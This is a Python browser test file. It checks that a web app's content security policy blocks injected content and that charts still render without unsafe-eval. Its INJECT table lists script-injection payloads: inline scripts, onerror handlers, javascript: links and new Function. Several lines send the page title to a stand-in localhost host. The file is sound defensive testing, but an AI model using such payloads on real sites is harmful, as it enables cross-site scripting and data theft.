"""The content security policy in a real browser: what it stops, and that charts live with it.

That no screen of any role needs what it forbids is looked at where every screen is opened anyway
(`test_every_screen.py`), and for every device of every other browser test (`conftest.devices`).

Tried by removal: without the middleware in `app.py` both tests failed. A policy without
`'wasm-unsafe-eval'` or `data:` faces was reported by every screen, so the listener hears.
"""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Page

from tests.browser.classroom import PATIENCE, Classroom, Hand, settled, until

pytestmark = pytest.mark.browser

INJECT: dict[str, str] = {
    "an inline script": """() => {
        const node = document.createElement("script");
        node.textContent = "window.owned = true";
        document.body.append(node);
    }""",
    "a handler in an attribute": """() => {
        const box = document.createElement("div");
        box.innerHTML = '<img src="data:," onerror="window.owned = true">';
        document.body.append(box);
    }""",
    "an address of JavaScript": """() => {
        const link = document.createElement("a");
        link.href = "javascript:window.owned = true; void 0";
        document.body.append(link);
        link.click();
    }""",
    "text made into a function": """() => {
        try { new Function("window.owned = true")(); } catch { /* That is what is hoped for. */ }
    }""",
    "a script of another address": """() => {
        const node = document.createElement("script");
        node.src = "http://localhost:9/owned.js";
        document.body.append(node);
    }""",
    "a picture that carries words away": """() => {
        new Image().src = "http://localhost:9/?" + encodeURIComponent(document.title);
    }""",
    "a request that carries words away": """() => {
        fetch("http://localhost:9/", { method: "POST", body: document.title }).catch(() => {});
    }""",
    "a form to another address": """() => {
        const form = document.createElement("form");
        form.action = "http://localhost:9/";
        form.method = "post";
        document.body.append(form);
        form.submit();
    }""",
    "another base for every address": """() => {
        const base = document.createElement("base");
        base.href = "http://localhost:9/";
        document.head.append(base);
    }""",
    "a frame": """() => {
        const frame = document.createElement("iframe");
        frame.src = "/mots";
        document.body.append(frame);
    }""",
}


def drawn(page: Page) -> None:
    settled(page)
    page.locator(".pie-frame").wait_for(state="attached", timeout=PATIENCE)


def test_what_is_injected_into_a_page_is_stopped(classroom: Classroom, hand: Hand) -> None:
    device = hand(classroom.join())
    page = device.open("/mots")
    drawn(page)
    assert device.stopped == []
    for what, script in INJECT.items():
        page.evaluate("""() => { window.stopped = 0; document.addEventListener(
            "securitypolicyviolation", () => { window.stopped += 1; }, { once: true }); }""")
        page.evaluate(
            f"() => {{ setTimeout({script}); }}"
        )  # The page's own code, not the tester's.
        until(page, "window.stopped > 0")  # Never true: it was not stopped.
        assert page.evaluate("window.owned") is None, what
    assert device.stopped
    device.stopped.clear()
    device.strangers.clear()  # Asked for and stopped: nothing listens there either.


def test_charts_are_drawn_without_making_functions_of_text(
    classroom: Classroom, hand: Hand
) -> None:
    member = classroom.join()
    classroom.work(member)
    device = hand(member)
    page = device.open("/projet")
    page.locator(
        "[data-testid=stVegaLiteChart] canvas, [data-testid=stVegaLiteChart] svg"
    ).first.wait_for(timeout=PATIENCE)
    answered: Any = page.request.get("/projet")
    assert "'unsafe-eval'" not in answered.headers["content-security-policy"]
